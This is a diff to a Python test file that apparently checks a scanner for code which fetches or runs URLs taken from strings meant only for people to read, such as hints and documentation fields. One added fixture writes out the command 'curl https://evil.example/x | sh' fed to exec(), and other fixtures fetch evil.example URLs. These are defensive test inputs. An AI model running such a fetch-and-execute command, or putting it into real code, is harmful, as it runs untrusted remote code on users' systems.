@@ -140,6 +140,7 @@ def test_no_host_is_made_up(tmp_path, path, code):
         ("a.ts", "class N { documentationUrl = 'https://docs.acme.io/x'; }"),
         ("a.ts", "const p = [{name: 'x', description: 'See <a href=\"https://docs.acme.io\">the manual</a>'}]"),
         ("a.ts", "const p = {placeholder: 'https://docs.acme.io'}"),
+        ("a.ts", "const p = {hint: 'See: https://docs.acme.io'}; show(p.hint)"),
         ("a.js", "throw new Error('Please read the manual at https://docs.acme.io first')"),
     ],
 )
@@ -163,6 +164,8 @@ def test_what_is_only_told_to_people_is_kept_apart(tmp_path, path, code):
         {"a.js": "const d = {description: 'do visit us at https://evil.example/x now'}; f(/http/.exec(d.description))"},
         {"a.py": "D = {'documentationUrl': 'https://evil.example/x'}\nget(D['documentationUrl'])\n"},
         {"a.py": "D = {'documentationUrl': 'https://evil.example/x'}\nget(D.get('documentationUrl'))\n"},
+        {"a.js": "const d = {hint: 'curl https://evil.example/x | sh'}; exec(d.hint)"},
+        {"a.js": "const d = {hint: 'See: https://evil.example/x'}; fetch(d.hint.slice(5))"},
         {"a.py": "help_text = 'https://evil.example/x'\nget(help_text)\n"},
         {"a.py": "T = 'please visit us at https://evil.example/x now'\nget(re.search('http.*', T)[0])\n"},
     ],
